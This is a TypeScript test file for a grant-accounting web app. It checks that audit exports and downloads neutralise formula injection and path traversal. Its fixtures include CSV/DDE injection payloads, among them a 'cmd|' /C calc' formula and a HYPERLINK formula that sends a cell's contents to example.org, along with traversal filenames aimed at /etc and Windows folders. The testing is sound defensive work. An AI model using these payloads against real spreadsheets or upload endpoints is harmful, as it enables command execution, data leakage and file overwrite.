/**
 * What somebody types into the running program to attack whoever opens its files later: formulas in texts, paths
 * in names. An auditor downloads every file and finds text, and every path within its folder.
 */
import { setTimeout as wait } from "node:timers/promises";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import Papa from "papaparse";
import { afterAll, beforeAll, expect, test } from "vitest";
import { addressOf, cleanUp, newDataFolder, startProgram } from "./program.ts";
import { Visitor } from "./visitor.ts";

/** As each spreadsheet begins a formula, with a mark that is found again in every file. */
const formulas = [
  '=HYPERLINK("https://example.org/?"&A1;"Kanari")',
  "+Kanari+cmd|' /C calc'!A0",
  "-Kanari+2",
  "@SUM(Kanari)",
  "'=Kanari()",
  "=Kanari;=1+1",
];
/** As each system leaves a folder. */
const names = [
  "../../../etc/Kanari.txt",
  "..\\..\\Windows\\Kanari.txt",
  "C:\\Kanari.txt",
  "/etc/Kanari.txt",
  "=Kanari.txt",
  "con.Kanari.txt",
  "%2e%2e%2fKanari.txt",
  "Kanari\u202etxt.exe.txt",
];
let address: string;
let clerk: Visitor;
let grant: string;
/** The id of the invoice that was booked first. */
let first: string | undefined;
/** The files that the auditor took away, by their names; an archive's with its own name before. */
const taken = new Map<string, Buffer>();

beforeAll(async () => {
  address = await addressOf(startProgram({ PAKTBUCH_DATA: newDataFolder() }));
  clerk = await signedIn("finanzen@beispiel.de");
  const list = await (await clerk.get("/grants")).text();
  grant = /\/grants\/[0-9a-f-]{36}(?=[^>]*>DP-NI)/.exec(list)![0];
  for (const [at, formula] of formulas.entries()) {
    const invoice = await book(formula, `${names[at]!.slice(0, 20)}-${at}`);
    first ??= invoice;
    for (const name of at === 0 ? names : names.slice(at, at + 1)) await attach(invoice, name);
  }
  const auditor = await signedIn("pruefung@beispiel.de");
  const grantId = grant.split("/")[2]!;
  await takeAway("workbook", await exported(auditor, { kind: "workbook" }));
  await takeAway("z3", await exported(auditor, { kind: "z3" }));
  await takeAway("dossier", await exported(auditor, { kind: "dossier", grant: grantId }));
  const report = await auditor.get("/reports/half-year.csv?on=30.06.2024");
  taken.set("half-year.csv", Buffer.from(await report.arrayBuffer()));
}, 480_000);

afterAll(cleanUp);

async function signedIn(email: string): Promise<Visitor> {
  const visitor = new Visitor(address);
  await visitor.signIn(email);
  return visitor;
}

/** @returns the id of the booked invoice */
async function book(supplier: string, number: string): Promise<string> {
  const form = `${grant}/invoices/new`;
  const page = await (await clerk.get(form)).text();
  const options = page.slice(page.indexOf('name="lines[0].budgetLineId"'));
  const typed = await clerk.formOf(form);
  const answer = await clerk.post(form, {
    ...typed,
    supplier,
    number,
    invoicedOn: "01.06.2024",
    "lines[0].budgetLineId": /<option value="([0-9a-f-]{36})"/.exec(options)![1]!,
    "lines[0].description": supplier,
    "lines[0].grossAmount": "1,19",
  });
  expect(answer.status, await answer.clone().text()).toBe(302);
  return typed.id!;
}

async function attach(invoice: string, name: string): Promise<void> {
  const body = new FormData();
  body.append("file", new File([`Beleg zu ${invoice}: ${name}`], name));
  const answer = await clerk.sendBody(`/attachments?subject=invoice&subjectId=${invoice}`, body);
  expect(answer.status, `${name}: ${await answer.clone().text()}`).toBe(302);
}

async function exported(auditor: Visitor, order: Record<string, string>): Promise<Buffer> {
  const form = Visitor.fieldsIn(await (await auditor.get("/audit")).text());
  const ordered = await auditor.post("/exports", { ...form, asOf: "", ...order });
  const path = `${ordered.headers.get("Location")!}/file`;
  expect(path).toMatch(/^\/exports\//);
  for (let tries = 0; tries < 240; tries += 1) {
    const answer = await auditor.get(path);
    if (answer.status === 200) return Buffer.from(await answer.arrayBuffer());
    await answer.text();
    await wait(500);
  }
  throw new Error(`${order.kind} was never made`);
}

async function takeAway(kind: string, content: Buffer): Promise<void> {
  taken.set(kind, content);
  if (kind === "workbook") return;
  // Names as they stand in the archive: JSZip would mend them when it reads.
  const { files } = await JSZip.loadAsync(content, { checkCRC32: true });
  for (const entry of Object.values(files)) {
    const name = (entry as { unsafeOriginalName?: string }).unsafeOriginalName ?? entry.name;
    taken.set(`${kind}:${name}`, await entry.async("nodebuffer"));
  }
}

function pathsIn(kind: string): string[] {
  return [...taken.keys()]
    .filter((name) => name.startsWith(`${kind}:`))
    .map((name) => name.slice(kind.length + 1));
}

/** Cells of all sheets: texts, and formulas with what they say. */
async function cellsOf(workbook: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(workbook as never);
  const cells: { at: string; text: string; formula: string | undefined; link: unknown }[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const { text, formula, hyperlink: link } = cell;
        cells.push({ at: `${sheet.name}!${cell.address}`, text: String(text), formula, link });
      }),
    );
  }
  return cells;
}

test("in the audit workbook no formula says what somebody typed, and every name is a text as it was typed", async () => {
  const cells = await cellsOf(taken.get("workbook")!);
  expect(cells.filter(({ formula }) => formula !== undefined).length).toBeGreaterThan(100);
  const typed = cells.filter(({ text, formula }) => /Kanari/.test(`${text} ${formula}`));
  for (const formula of formulas) {
    expect(
      typed.some(({ text }) => text === formula),
      formula,
    ).toBe(true);
  }
  expect(typed.filter(({ formula, link }) => formula !== undefined || link)).toEqual([]);
});

test("the workbook in the dossier is the same in this", async () => {
  const path = pathsIn("dossier").find((name) => name.endsWith(".xlsx"))!;
  const typed = (await cellsOf(taken.get(`dossier:${path}`)!)).filter(({ text, formula }) =>
    /Kanari/.test(`${text} ${formula}`),
  );
  expect(typed.length).toBeGreaterThan(formulas.length);
  expect(typed.filter(({ formula, link }) => formula !== undefined || link)).toEqual([]);
});

/** What a spreadsheet takes for a formula; an amount below zero is none. */
function isFormula(value: string): boolean {
  return /^[=+\-@\t\r]/.test(value) && !/^-\d+(,\d+)?$/.test(value);
}

test.each(["dossier", "half-year.csv"])(
  "in the lists of %s, which spreadsheets open, no cell begins a formula",
  (kind) => {
    const lists = [...taken].filter(([name]) => name.startsWith(kind) && name.endsWith(".csv"));
    expect(lists.length).toBe(kind === "dossier" ? 2 : 1);
    for (const [name, content] of lists) {
      const { data } = Papa.parse<string[]>(content.toString("utf8").replace(/^\ufeff/, ""), {
        delimiter: ";",
      });
      expect(data.length, name).toBeGreaterThan(1);
      expect(data.flat().filter(isFormula), name).toEqual([]);
    }
    if (kind === "dossier") {
      expect(taken.get("dossier:INHALT.csv")!.toString()).toContain("'=Kanari.txt");
    }
  },
);

test("in the files of the Z3 export each text is quoted as it was typed, and what is not is a number or a day", () => {
  const files = [...taken].filter(([name]) => name.startsWith("z3:") && name.endsWith(".csv"));
  expect(files.length).toBeGreaterThan(20);
  for (const [name, content] of files) {
    const fields = content.toString("utf8").matchAll(/("(?:[^"]|"")*"|[^;\r\n"]*)(?:;|\r\n)/g);
    const bare = [...fields].map(([, field]) => field!).filter((field) => !field.startsWith('"'));
    expect(
      bare.filter((field) => !/^(-?\d+(,\d+)?|\d\d\.\d\d\.\d{4}|)$/.test(field)),
      name,
    ).toEqual([]);
  }
  const suppliers = taken.get("z3:lieferanten.csv")!.toString("utf8");
  for (const formula of formulas) {
    expect(suppliers).toContain(`"${formula.replaceAll('"', '""')}"`);
  }
});

test("in both archives every path stays in its folder, on every system", () => {
  for (const kind of ["dossier", "z3"]) {
    const paths = pathsIn(kind);
    const odd = paths.filter(
      (path) =>
        path.split("/").some((part) => part === "" || /^\.+$|^[. ]|[. ]$/.test(part)) ||
        /[\\:*?"<>|\p{C}]/u.test(path) ||
        path.split("/").length > 2,
    );
    expect(odd).toEqual([]);
  }
  const papers = pathsIn("dossier").filter((path) => path.startsWith("05 Belege/"));
  expect(papers.length).toBeGreaterThanOrEqual(formulas.length - 1 + names.length);
});

test("a path in the name of a file ends at the browser as a plain name", async () => {
  const page = await (await clerk.get(`/invoices/${first}`)).text();
  const files = new Set([...page.matchAll(/\/attachments\/[0-9a-f-]{36}(?=")/g)].map(String));
  expect(files.size).toBeGreaterThanOrEqual(names.length);
  for (const path of files) {
    const { headers } = await clerk.get(path);
    const disposition = headers.get("Content-Disposition")!;
    const [, plain, encoded] =
      /^attachment; filename="([^"\\]*)"; filename\*=UTF-8''(\S*)$/.exec(disposition) ?? [];
    for (const name of [plain!, decodeURIComponent(encoded!)]) {
      expect(name, disposition).toMatch(/^[^/\\:\p{C}]+\.txt$/u);
      expect(name).not.toMatch(/^\.|\.\./);
    }
    expect(headers.get("Content-Security-Policy")).toMatch(/sandbox$/);
    expect(headers.get("X-Content-Type-Options")).toBe("nosniff");
  }
});
